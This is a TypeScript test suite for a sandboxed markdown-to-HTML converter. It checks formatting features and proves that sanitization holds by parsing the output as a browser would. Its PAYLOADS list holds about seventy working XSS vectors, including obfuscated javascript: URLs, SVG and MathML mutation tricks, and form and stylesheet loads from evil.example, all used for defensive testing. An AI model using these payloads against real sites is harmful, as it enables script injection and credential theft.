// markdown-to-html, run in the sandbox. Whether its HTML is safe is judged by parsing it as a browser does (parse5).
import { readFile } from "node:fs/promises";
import { type OpenedTool, openTool, undescribed } from "glovebox/testing";
import { type DefaultTreeAdapterTypes, html as htmlNames, parse, parseFragment, serialize } from "parse5";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

interface Converted {
  readonly html: string;
  readonly title: string | null;
  readonly headings: readonly { readonly level: number; readonly text: string; readonly id?: string }[];
  readonly wordCount: number;
  readonly removed: readonly string[];
}

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

let tool: OpenedTool;
beforeAll(async () => {
  tool = await openTool(import.meta.dirname);
});
afterAll(() => tool[Symbol.asyncDispose]());

const convert = (markdown: string, options: object = {}) => tool.output<Converted>({ markdown, ...options });

function elementsOf(root: Node): Element[] {
  const children = "childNodes" in root ? root.childNodes.flatMap(elementsOf) : [];
  return "tagName" in root ? [root, ...children] : children;
}

function find(html: string, tagName: string): Record<string, string>[] {
  return elementsOf(parseFragment(html))
    .filter((element) => element.tagName === tagName)
    .map(({ attrs }) => Object.fromEntries(attrs.map(({ name, value }) => [name, value])));
}

function textOf(node: Node): string {
  if ("value" in node && node.nodeName === "#text") return node.value;
  return "childNodes" in node ? node.childNodes.map(textOf).join("") : "";
}

test("markdown-to-html requires its text and nothing else, and describes every field", () => {
  const { inputSchema, outputSchema } = tool.definition;
  expect(inputSchema).toMatchObject({ required: ["markdown"] });
  expect([...undescribed(inputSchema), ...undescribed(outputSchema)]).toEqual([]);
});

describe("markdown-to-html on its example", () => {
  let result: Converted;
  beforeAll(async () => {
    result = await convert(await readFile(new URL("example.md", import.meta.url), "utf8"), { headingIds: true });
  });

  test("makes a table with its alignments", () => {
    expect(find(result.html, "table")).toHaveLength(1);
    expect(find(result.html, "th").map(({ align }) => align)).toEqual(["left", "left", "center", "right"]);
    const cells = elementsOf(parseFragment(result.html)).filter(({ tagName }) => tagName === "td");
    expect(cells.map(textOf).slice(0, 4)).toEqual(["Uploads", "Resume after a lost connection", "4.2.0", "1,850"]);
    expect(cells.map(textOf)).toContain("Signed with HMAC | SHA-256");
  });

  test("keeps code as text, with its language", () => {
    expect(find(result.html, "code")).toContainEqual({ class: "language-ts" });
    expect(textOf(parseFragment(result.html))).toContain("if (upload.sent < upload.bytes && !upload.closed)");
  });

  test("makes task lists, footnotes and bare links", () => {
    expect(find(result.html, "input")).toEqual([
      { type: "checkbox", checked: "", disabled: "" },
      { type: "checkbox", disabled: "" },
    ]);
    const hrefs = find(result.html, "a").map(({ href }) => href);
    expect(hrefs).toContain("https://example.com/harbour/4.2");
    expect(hrefs).toContain("mailto:support@example.com");
  });

  test("leads every link within the page to an element that is there", () => {
    const ids = elementsOf(parseFragment(result.html)).flatMap(({ attrs }) =>
      attrs.filter(({ name }) => name === "id"),
    );
    const inner = find(result.html, "a").filter(({ href = "" }) => href.startsWith("#"));
    expect(inner).toHaveLength(3);
    for (const { href = "" } of inner)
      expect(ids.map(({ value }) => value)).toContain(decodeURIComponent(href.slice(1)));
  });

  test("lists headings, title and words", () => {
    expect(result.title).toBe("Release notes: Harbour 4.2");
    expect(result.headings.map(({ level, text }) => `${level} ${text}`)).toEqual([
      "1 Release notes: Harbour 4.2",
      "2 What is new",
      "3 Resumable uploads",
      "2 Before you upgrade",
    ]);
    expect(result.headings.map(({ id }) => id)).toContain("user-content-what-is-new");
    expect(result.wordCount).toBeGreaterThan(150);
  });

  test("says what it removed, and keeps harmless HTML", () => {
    expect(result.removed.toSorted()).toEqual(["<script>", "href of <a>", "onclick of <a>"]);
    for (const kept of ["kbd", "sub", "details", "summary"]) expect(find(result.html, kept)).not.toEqual([]);
  });
});

test.for<[string, string, object, string]>([
  ["line ends as they are", "a\nb", {}, "<p>a\nb</p>"],
  ["line ends as breaks", "a\nb", { breaks: true }, "<p>a<br>\nb</p>"],
  ["a table as text without gfm", "|a|\n|-|", { gfm: false }, "<p>|a|\n|-|</p>"],
  ["HTML as text", "a <b onclick=x>c</b>", { rawHtml: "text" }, "<p>a &#x3C;b onclick=x>c&#x3C;/b></p>"],
  ["text without its HTML", "a <b>c</b>", { rawHtml: "remove" }, "<p>a c</p>"],
  ["text without its images", "a ![b](https://c.example/d.png)", { images: false }, "<p>a </p>"],
  ["strikethrough", "~~a~~", {}, "<p><del>a</del></p>"],
  ["nothing", "", {}, ""],
  ["a byte order mark", "\uFEFF# a", {}, "<h1>a</h1>"],
  [
    "equal headings",
    "# a\n# a",
    { headingIds: true },
    '<h1 id="user-content-a">a</h1>\n<h1 id="user-content-a-1">a</h1>',
  ],
  [
    "headings in any script",
    "# Über *Öl* & 水!",
    { headingIds: true },
    '<h1 id="user-content-über-öl--水">Über <em>Öl</em> &#x26; 水!</h1>',
  ],
])("markdown-to-html converts %s", async ([, markdown, options, expected]) => {
  expect((await convert(markdown, options)).html).toBe(expected);
});

test("markdown-to-html names what it removed as its author wrote it", async () => {
  const { removed } = await convert(
    '<p class="x" style="y" data-id="z" onclick="a()">b</p><form><input name="c"></form>',
  );
  expect(removed.toSorted()).toEqual(["<form>", "class of <p>", "data-id of <p>", "onclick of <p>", "style of <p>"]);
});

test("markdown-to-html marks links to other sites, and opens them in a new tab if asked", async () => {
  const markdown = "[a](https://a.example) [b](/b) [c](//c.example) [d](mailto:d@example.com)";
  const rel = "nofollow noopener noreferrer";
  expect(find((await convert(markdown)).html, "a")).toEqual([
    { href: "https://a.example", rel },
    { href: "/b" },
    { href: "//c.example", rel },
    { href: "mailto:d@example.com" },
  ]);
  const targets = find((await convert(markdown, { newTab: true })).html, "a").map(({ target }) => target);
  expect(targets).toEqual(["_blank", undefined, "_blank", undefined]);
});

test("markdown-to-html makes a whole page whose title and language cannot break out", async () => {
  const { html } = await convert("# Hello *you*", { document: true, language: "pt-BR" });
  const page = elementsOf(parse(html));
  expect(html.startsWith("<!doctype html>")).toBe(true);
  expect(page.find(({ tagName }) => tagName === "html")?.attrs).toEqual([{ name: "lang", value: "pt-BR" }]);
  expect(page.filter(({ tagName }) => tagName === "title").map(textOf)).toEqual(["Hello you"]);
  const hostile = await convert("a", { document: true, title: "</title><script>alert(1)</script>" });
  const elements = elementsOf(parse(hostile.html));
  expect(elements.filter(({ tagName }) => tagName === "script")).toEqual([]);
  expect(elements.filter(({ tagName }) => tagName === "title").map(textOf)).toEqual([
    "</title><script>alert(1)</script>",
  ]);
});

/** What a reader's browser may be given: stated here on its own, not taken from the tool. */
const SAFE_ELEMENTS = new Set(
  (
    "a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img input ins kbd li ol p pre q s samp " +
    "section span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var ruby rt rp"
  ).split(" "),
);
const SAFE_ATTRIBUTES = new Set(
  (
    "align alt aria-describedby aria-hidden aria-label aria-labelledby checked class cite colspan data-footnote-backref " +
    "data-footnote-ref data-footnotes dir disabled height href id itemscope itemtype itemprop lang open rel rowspan src " +
    "start target title type valign width name"
  ).split(" "),
);
const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:", "tel:"]);

function hazardsOf(html: string): string[] {
  const elements = elementsOf(parseFragment(html));
  return elements.flatMap((element) => {
    const { tagName, namespaceURI, attrs } = element;
    const hazards = attrs.filter((attribute) => isHazard(tagName, attribute.name, attribute.value));
    const shown = hazards.map(({ name, value }) => `${tagName} ${name}=${value}`);
    const foreign = namespaceURI !== htmlNames.NS.HTML || !SAFE_ELEMENTS.has(tagName);
    return foreign ? [`<${tagName}>`, ...shown] : shown;
  });
}

function isHazard(tagName: string, name: string, value: string): boolean {
  if (!SAFE_ATTRIBUTES.has(name)) return true;
  if (name === "id" || name === "name") return !value.startsWith("user-content-");
  if (name === "type") return tagName !== "input" || value !== "checkbox";
  if (name !== "href" && name !== "src" && name !== "cite") return false;
  // As a browser resolves it: spaces, control characters and case make no difference.
  return !SAFE_PROTOCOLS.has(new URL(value, "https://page.example/").protocol);
}

const PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x"/onerror="alert(1)">',
  "<img src=x oNeRrOr=alert(1)//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  '<math href="javascript:alert(1)">x</math>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://a.example" onmouseover="alert(1)" style="x:expression(alert(1))">x</a>',
  '<a href="https://a.example" target="_top" ping="https://evil.example">x</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x](https://a.example "\\" onerror=\\"alert(1)")',
  '[x](https://a.example "\\"><script>alert(1)</script>")',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  '<input type="image" src="x" onerror="alert(1)"><input autofocus onfocus=alert(1)>',
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<body onload=alert(1)><p onclick=alert(1)>x</p></body>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
  "<style>@import 'https://evil.example/x.css'; * { background: url(javascript:alert(1)) }</style>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script></textarea>",
  "<title></title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  '<picture><source srcset="javascript:alert(1)"><img srcset="x 1x, javascript:alert(1) 2x" src="x"></picture>',
  '<img name=body id=cookie><a id=defaultView href="https://a.example">x</a><form id=forms></form>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>",
  "<x-custom onclick=alert(1) is=script>x</x-custom>",
  '<div itemscope itemprop="x" contenteditable draggable="true" ondragstart=alert(1)>x</div>',
  "`<script>alert(1)</script>` ```<script>alert(1)</script>",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "| a |\n|---|\n| <script>alert(1)</script><img src=x onerror=alert(1)> |",
  '[^1]: <img src=x onerror=alert(1)>\n\nx[^1] [^"><script>]',
  "# <svg/onload=alert(1)> [x](javascript:alert(1))",
  "https://a.example/\"onmouseover=alert(1) www.a.example/'><script>alert(1)</script>",
  "<a\u0000 href=\u0001javascript:alert(1)>x</a><scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<div\n\n<script>alert(1)</script>\n\n</div>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

describe("markdown-to-html lets no script through", () => {
  test("and its own judge does see hazards", () => {
    const seen = PAYLOADS.filter((payload) => payload.startsWith("<") && hazardsOf(payload).length > 0);
    expect(seen.length).toBeGreaterThan(40);
  });

  const surround = (payload: string) => `before\n\n${payload}\n\n*after*`;

  test.for(PAYLOADS.map((payload) => [payload]))("in %j", async ([payload = ""]) => {
    const { html } = await convert(surround(payload), { headingIds: true });
    expect(hazardsOf(html)).toEqual([]);
    // Some attacks live from being parsed, written out and parsed again, as an editor or `innerHTML` does.
    expect(hazardsOf(serialize(parseFragment(html)))).toEqual([]);
  });

  test.for(["sanitize", "text", "remove"])("in all payloads at once, with rawHtml %s", async (rawHtml) => {
    const { html } = await convert(PAYLOADS.map(surround).join("\n\n"), { rawHtml, newTab: true });
    expect(hazardsOf(html)).toEqual([]);
    expect(hazardsOf(serialize(parseFragment(html)))).toEqual([]);
  });
});

test("markdown-to-html converts a long text in good time", async () => {
  const section =
    "## Part\n\nSome *text* with a [link](https://a.example) and `code`.\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n- x\n- y\n\n";
  const { headings, html } = await convert(section.repeat(400));
  expect(headings).toHaveLength(400);
  expect(html.match(/<table>/g)).toHaveLength(400);
});

test.for<[string, unknown, RegExp]>([
  ["elements nested without end", { markdown: "<div>".repeat(20_000) }, /^TOOL_FAILED: .*nested too deeply/],
  ["no text", {}, /^PARAM_INVALID.*markdown/],
  ["a number", { markdown: 1 }, /^PARAM_INVALID.*markdown/],
  ["a list", ["# a"], /^PARAM_INVALID/],
  ["an unknown way with HTML", { markdown: "", rawHtml: "keep" }, /^PARAM_INVALID.*rawHtml/],
  ["a language that is none", { markdown: "", language: '"><script>' }, /^PARAM_INVALID.*language/],
  ["an unknown option", { markdown: "", sanitize: false }, /^PARAM_INVALID.*sanitize/],
])("markdown-to-html rejects %s", async ([, args, expected]) => {
  expect(await tool.failure(args)).toMatch(expected);
});
